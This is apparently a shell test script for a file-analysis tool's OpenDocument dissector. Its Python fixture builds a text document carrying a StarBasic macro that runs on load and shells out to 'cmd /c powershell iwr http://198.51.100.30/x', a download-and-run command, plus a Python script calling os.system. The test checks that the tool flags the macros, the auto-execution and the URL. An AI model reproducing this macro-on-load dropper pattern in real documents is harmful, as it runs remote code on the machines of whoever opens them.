# ODF dissector: documents built at test time with Python's zipfile
# (mimetype first and stored, manifest, StarBasic modules with escaped
# source, an event listener running a macro on load, a Python script,
# embedded objects), compared with what Python's zipfile + xml.etree read
# from them (module names and decoded source hashes); lineage through the
# archive walk, flags, a document without macros, a damaged package.
# SPDX-License-Identifier: Apache-2.0
. "$ART_SOURCE_DIR/tests/cli/lib.sh"
need jq /usr/bin/python3
S=$ART_BIN/art-surface
export XDG_CACHE_HOME=$T/cache

/usr/bin/python3 - "$T" <<'PY'
import hashlib, sys, zipfile
import xml.etree.ElementTree as ET
t = sys.argv[1]
SCRIPT = "http://openoffice.org/2000/script"
module = ('<?xml version="1.0" encoding="UTF-8"?>\n'
          '<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">\n'
          '<script:module xmlns:script="%s" script:name="Module1" script:language="StarBasic">'
          'Sub AutoRun\n  Dim s As String\n  s = &quot;cmd /c powershell iwr http://198.51.100.30/x &amp;&amp; run&quot;\n'
          '  If 1 &lt; 2 Then Shell(s, 0)\n  MsgBox &quot;&#35531;&#27714;&#26360;&quot;\nEnd Sub\n'
          '</script:module>' % SCRIPT)
module2 = ('<?xml version="1.0" encoding="UTF-8"?>\n<script:module xmlns:script="%s" '
           'script:name="Helpers" script:language="StarBasic">Function F()\nEnd Function\n</script:module>' % SCRIPT)
manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">\n'
            ' <manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>\n'
            ' <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>\n'
            ' <manifest:file-entry manifest:full-path="Object 1/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>\n'
            ' <manifest:file-entry manifest:full-path="Object 2" manifest:media-type="application/vnd.sun.star.oleobject"/>\n'
            '</manifest:manifest>\n')
content = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
           '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
           'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.AutoRun?language=Basic&amp;location=document"/>'
           '</office:event-listeners></office:scripts><office:body><office:text/></office:body></office:document-content>')
def odt(path, with_macros=True):
    z = zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED)
    z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED)
    z.writestr("META-INF/manifest.xml", manifest)
    z.writestr("content.xml", content if with_macros else content.replace("dom:load", "dom:click"))
    if with_macros:
        z.writestr("Basic/script-lc.xml", '<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library"/>')
        z.writestr("Basic/Standard/script-lb.xml", '<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard"><library:element library:name="Module1"/></library:library>')
        z.writestr("Basic/Standard/Module1.xml", module)
        z.writestr("Basic/Standard/Helpers.xml", module2)
        z.writestr("Scripts/python/run.py", "import os\nos.system('calc')\n")
    z.writestr("Object 2", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    z.close()
odt(t + "/macro.odt")
odt(t + "/plain.odt", with_macros=False)
ref = []
z = zipfile.ZipFile(t + "/macro.odt")
for n in sorted(z.namelist()):
    if n.startswith("Basic/") and not n.endswith(("script-lb.xml", "script-lc.xml")):
        root = ET.fromstring(z.read(n))
        name = root.get("{%s}name" % SCRIPT)
        lib = n.split("/")[1]
        ref.append("%s/%s.bas\t%s" % (lib, name, hashlib.sha256(root.text.encode()).hexdigest()))
open(t + "/ref.tsv", "w").write("".join(sorted(x + "\n" for x in ref)))
d = open(t + "/macro.odt", "rb").read()
open(t + "/cut.odt", "wb").write(d[: len(d) * 2 // 3])
PY

"$S" --no-yara "$T/macro.odt" "$T/plain.odt" >"$T/our.jsonl"
jq -r 'select(.lineage.via == "odf-macro") | "\(.name)\t\(.hashes.sha256)"' "$T/our.jsonl" | LC_ALL=C sort >"$T/our.tsv"
# the source holds &quot; &amp; &lt; and numeric references to 請求書
check "Basic modules decoded from their XML as xml.etree reads them ($(wc -l <"$T/ref.tsv") modules)" \
  diff "$T/ref.tsv" "$T/our.tsv"
m='select(.lineage.id == 0 and .name == "macro.odt")'
check "summary: mimetype, macros, auto-exec on load, Python script, two embedded objects" \
  test "$(jq -r "$m"' | .odf | "\(.mimetype) \(.macros) \(.auto_exec) \(.scripts | join(",")) \([.embedded_objects[].path] | join(","))"' "$T/our.jsonl")" = \
  "application/vnd.oasis.opendocument.text true true Scripts/python/run.py Object 1/,Object 2"
check "event listener: dom:load runs Standard.Module1.AutoRun" \
  test "$(jq -r "$m"' | .odf.event_listeners[0] | "\(.event) \(.target)"' "$T/our.jsonl")" = \
  "dom:load vnd.sun.star.script:Standard.Module1.AutoRun?language=Basic&location=document"
check "flags: odf_macros, odf_autoexec, odf_embedded_object" \
  test "$(jq -r "$m"' | [.flags[] | select(startswith("odf_"))] | sort | join(",")' "$T/our.jsonl")" = \
  "odf_autoexec,odf_embedded_object,odf_macros"
check "indicators from the decoded macro source (URL behind &amp;/&quot;)" \
  test "$(jq -r "$m"' | [.odf.indicators[].value] | index("http://198.51.100.30/x") != null' "$T/our.jsonl")" = true
check "members are still walked by the archive layer (the OLE object typed by content)" \
  test "$(jq -r 'select(.name == "Object 2" and .lineage.via == "member" and (.lineage.root | endswith("macro.odt"))) | .type.mime' "$T/our.jsonl")" = application/x-ole-storage
check "a document without macros: no macro flags" \
  test "$(jq -r 'select(.lineage.id == 0 and .name == "plain.odt") | "\(.odf.macros) \(.odf.auto_exec) \([.flags[] | select(. == "odf_macros" or . == "odf_autoexec")] | length)"' "$T/our.jsonl")" = \
  "false false 0"
expect_rc 0 "a cut package is examined" "$S" --no-yara -o "$T/cut.jsonl" "$T/cut.odt"
check "cut package: partial, the error names the input" \
  test "$(jq -r 'select(.lineage.id == 0) | "\(.odf.partial) \(.errors | map(select(test("cut.odt: odf: damaged package"))) | length)"' "$T/cut.jsonl")" = "true 1"
finish
